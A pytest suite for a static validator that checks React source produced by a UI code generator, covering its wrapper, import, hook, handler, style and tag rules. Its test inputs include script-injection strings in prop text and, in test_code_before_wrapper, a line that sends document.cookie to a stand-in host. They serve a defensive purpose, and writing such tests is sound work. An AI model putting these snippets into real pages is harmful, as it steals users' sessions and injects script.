"""Unit tests for static source validation."""

import pytest

from uiforge.codegen import generate
from uiforge.ir import LayoutNode, Plan
from uiforge.schema import allowed_component_names
from uiforge.validation import validate_tree

from .lib import is_valid_source, lint_source


def _wrap(body: str, imports: str = "import Card from '@/components/ui/Card';") -> str:
    return (
        f"{imports}\n\n"
        "export default function GeneratedUI() {\n"
        f"{body}\n"
        "}\n"
    )


class TestGeneratedSource:
    """Generator output passes the static gate."""

    @pytest.mark.unit
    def test_table_plan_valid(self, table_plan):
        result = lint_source(generate(table_plan).source_code)
        assert result.valid, result.errors
        assert result.warnings == []

    @pytest.mark.unit
    def test_fixtures_valid(self, form_plan, dashboard_plan):
        assert is_valid_source(generate(form_plan).source_code)
        assert is_valid_source(generate(dashboard_plan).source_code)

    @pytest.mark.unit
    def test_whitelist_symmetry(self):
        """Both gates accept exactly the registered names."""
        for name in allowed_component_names():
            plan = Plan(intent=name, layout_tree=LayoutNode(type=name))
            assert validate_tree(plan.layout_tree).valid
            result = lint_source(generate(plan).source_code)
            assert result.valid, (name, result.errors)

    @pytest.mark.unit
    def test_hostile_strings_stay_inert(self):
        """Markup and expression syntax in prop text is escaped by the generator."""
        plan = Plan(
            intent="x",
            layout_tree=LayoutNode(
                type="Card",
                props={
                    "title": '"><Script src="x"></Script>',
                    "children": "<Iframe /> {alert(1)}",
                },
            ),
        )
        result = lint_source(generate(plan).source_code)
        assert result.valid, result.errors

    @pytest.mark.unit
    @pytest.mark.parametrize(
        "phrase",
        [
            "We will let you know when it ships",
            "Search by function name",
            "Use the const keyword",
            "Set console.log level",
            "Type debugger to inspect",
            "  var names are case sensitive  ",
        ],
    )
    def test_plain_copy_is_not_code(self, phrase):
        plan = Plan(
            intent="x",
            layout_tree=LayoutNode(
                type="Card", props={"title": phrase.strip(), "children": phrase}
            ),
        )
        assert validate_tree(plan.layout_tree).valid
        result = lint_source(generate(plan).source_code)
        assert result.valid, result.errors

    @pytest.mark.unit
    def test_call_syntax_in_copy_is_still_scanned(self):
        plan = Plan(
            intent="x",
            layout_tree=LayoutNode(type="Card", props={"children": "Call useState() here"}),
        )
        result = lint_source(generate(plan).source_code)
        assert any("useState" in e for e in result.errors)


class TestWrapper:
    """Tests for the wrapper requirement."""

    @pytest.mark.unit
    def test_missing_wrapper(self):
        result = lint_source("import Card from '@/components/ui/Card';\n<Card />")
        assert not result.valid
        assert any("export default function GeneratedUI()" in e for e in result.errors)

    @pytest.mark.unit
    def test_missing_return(self):
        result = lint_source(_wrap("  <Card>Hi</Card>"))
        assert result.errors == ["GeneratedUI must return the rendered layout."]

    @pytest.mark.unit
    def test_non_string(self):
        assert not lint_source(None).valid  # type: ignore[arg-type]

    @pytest.mark.unit
    def test_code_before_wrapper(self):
        source = (
            "import Card from '@/components/ui/Card';\n"
            "fetch('https://example.test/c?=' + document.cookie);\n"
            "window.location.href = 'https://example.test';\n"
            "\n"
            "export default function GeneratedUI() {\n"
            "  return (<Card>Hi</Card>);\n"
            "}\n"
        )
        result = lint_source(source)
        assert not result.valid
        assert result.errors == [
            "Code outside GeneratedUI is prohibited: "
            "fetch('https://example.test/c?=' + document.cookie);",
            "Code outside GeneratedUI is prohibited: "
            "window.location.href = 'https://example.test';",
        ]

    @pytest.mark.unit
    @pytest.mark.parametrize(
        "trailer",
        [
            "fetch('x');\n",
            "if (ready) {\n  fetch('x');\n}\n",
            "const token = 1;\n",
        ],
    )
    def test_code_after_wrapper(self, trailer):
        result = lint_source(_wrap("  return (<Card />);") + trailer)
        assert not result.valid
        assert any(e.startswith("Code outside GeneratedUI") for e in result.errors)

    @pytest.mark.unit
    def test_single_line_wrapper(self):
        source = (
            "import Card from '@/components/ui/Card';\n"
            "export default function GeneratedUI() { return (<Card>Hi</Card>); }\n"
        )
        assert is_valid_source(source)


class TestBodyChecks:
    """Tests for executable logic inside the wrapper."""

    @pytest.mark.unit
    @pytest.mark.parametrize(
        "snippet, fragment",
        [
            ("const [a, b] = useState(0);", "useState"),
            ("useEffect(() => {});", "useEffect"),
            ("const x = useCustomThing();", "useCustomThing"),
            ("const handler = () => 1;", "Arrow functions"),
            ("function inner() {}", "Function definitions"),
            ("let count = 1;", "let count"),
            ("var legacy = 1;", "var legacy"),
            ("console.log('hi');", "console.log"),
            ("debugger;", "Debugger"),
        ],
    )
    def test_prohibited_construct(self, snippet, fragment):
        result = lint_source(_wrap(f"  {snippet}\n  return (<Card>Hi</Card>);"))
        assert not result.valid
        assert any(fragment in e for e in result.errors), result.errors

    @pytest.mark.unit
    @pytest.mark.parametrize("handler", ["onClick", "onChange", "onSubmit", "onFocus", "onBlur", "onMouseEnter"])
    def test_event_handlers(self, handler):
        result = lint_source(_wrap(f'  return (<Card {handler}="go">Hi</Card>);'))
        assert f"Event handler '{handler}' is prohibited. Only static JSX is allowed." in result.errors

    @pytest.mark.unit
    def test_distinct_handlers_reported_separately(self):
        result = lint_source(_wrap('  return (<Card onClick="a" onBlur="b">Hi</Card>);'))
        handlers = [e for e in result.errors if e.startswith("Event handler")]
        assert len(handlers) == 2

    @pytest.mark.unit
    def test_repeated_construct_reported_once(self):
        result = lint_source(_wrap("  console.log(1);\n  console.log(2);\n  return (<Card />);"))
        assert sum("console.log" in e for e in result.errors) == 1


class TestImports:
    """Tests for import restrictions."""

    @pytest.mark.unit
    @pytest.mark.parametrize(
        "line",
        [
            "import React from 'react';",
            "import * as React from 'react';",
            "import { useState } from 'react';",
            "import ReactDOM from 'react-dom';",
        ],
    )
    def test_react_import(self, line):
        result = lint_source(_wrap("  return (<Card />);", imports=line))
        assert any("Importing React is prohibited" in e for e in result.errors)

    @pytest.mark.unit
    @pytest.mark.parametrize("lib", ["@mui", "@chakra", "antd", "react-bootstrap", "semantic-ui"])
    def test_external_ui_library(self, lib):
        line = f"import Thing from '{lib}/core';"
        result = lint_source(_wrap("  return (<Card />);", imports=line))
        assert f"External UI library '{lib}' is prohibited. Use only the fixed component library." in result.errors
        assert not any("whitelisted component import" in e for e in result.errors)

    @pytest.mark.unit
    def test_non_component_import(self):
        result = lint_source(_wrap("  return (<Card />);", imports="import fs from 'fs';"))
        assert result.errors == ["Import is not a whitelisted component import: import fs from 'fs';"]

    @pytest.mark.unit
    def test_mismatched_component_path(self):
        line = "import Card from '@/components/ui/Modal';"
        assert not is_valid_source(_wrap("  return (<Card />);", imports=line))

    @pytest.mark.unit
    def test_unregistered_component_import(self):
        line = "import Script from '@/components/ui/Script';"
        assert not is_valid_source(_wrap("  return (<Card />);", imports=line))

    @pytest.mark.unit
    def test_double_quoted_component_import(self):
        line = 'import Card from "@/components/ui/Card";'
        assert is_valid_source(_wrap("  return (<Card />);", imports=line))

    @pytest.mark.unit
    def test_dynamic_import(self):
        result = lint_source(_wrap("  return (<Card title={require('x')} />);"))
        assert "Dynamic 'require()' calls are prohibited." in result.errors


class TestStyles:
    """Tests for styling restrictions."""

    @pytest.mark.unit
    def test_inline_style_object(self):
        result = lint_source(_wrap('  return (<Card style={{color: "red"}} />);'))
        assert any("Inline styles are prohibited" in e for e in result.errors)

    @pytest.mark.unit
    def test_inline_style_string(self):
        assert not is_valid_source(_wrap('  return (<Card style="color: red" />);'))

    @pytest.mark.unit
    def test_inner_html(self):
        assert not is_valid_source(
            _wrap('  return (<Card dangerouslySetInnerHTML={{__html: "x"}} />);')
        )

    @pytest.mark.unit
    def test_dynamic_class_name_is_warning(self):
        result = lint_source(_wrap("  return (<Card className={`p-${size}`} />);"))
        assert len(result.warnings) == 1
        assert "Dynamic className" in result.warnings[0]


class TestComponentDeclarations:
    """Tests for ad hoc component detection."""

    @pytest.mark.unit
    @pytest.mark.parametrize(
        "declaration",
        [
            "const HeaderComponent = 1;",
            "function FooterComponent() {}",
            "class PanelComponent {}",
            "let widgetcomponent = 2;",
        ],
    )
    def test_declaration_rejected(self, declaration):
        source = declaration + "\n" + _wrap("  return (<Card />);")
        assert any("Creating new components is prohibited" in e for e in lint_source(source).errors)


class TestTags:
    """Tests for the tag whitelist scan."""

    @pytest.mark.unit
    def test_every_unknown_tag_reported(self):
        result = lint_source(_wrap("  return (<Card><Script /><div>x</div><Script /></Card>);"))
        tag_errors = [e for e in result.errors if e.startswith("Component '")]
        assert len(tag_errors) == 2
        assert tag_errors[0].startswith("Component 'Script'")
        assert tag_errors[1].startswith("Component 'div'")

    @pytest.mark.unit
    def test_fragments_allowed(self):
        body = "  return (<><Fragment><React.Fragment><Card /></React.Fragment></Fragment></>);"
        assert is_valid_source(_wrap(body))


class TestCompleteness:
    """All violations are collected, not just the first."""

    @pytest.mark.unit
    def test_n_constructs_n_errors(self):
        body = (
            "  const [open, setOpen] = useState(false);\n"
            '  return (<Card onClick="x" style={{margin: 0}}><Script /><Iframe /></Card>);'
        )
        result = lint_source(_wrap(body))
        assert not result.valid
        # hook, handler, style, two tags
        assert len(result.errors) >= 5
        assert len(set(result.errors)) == len(result.errors)
